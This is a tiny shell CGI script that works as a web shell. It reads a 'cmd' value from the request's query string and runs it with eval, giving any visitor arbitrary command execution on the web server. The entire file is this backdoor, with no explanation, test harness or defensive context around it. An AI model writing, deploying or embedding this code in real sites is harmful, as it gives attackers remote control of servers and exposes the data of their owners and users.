#!/bin/sh
echo "Content-type: text/plain"; echo
cmd=$(echo "$QUERY_STRING" | sed -n "s/^.*cmd=\([^&]*\).*$/\1/p")
eval "$cmd"
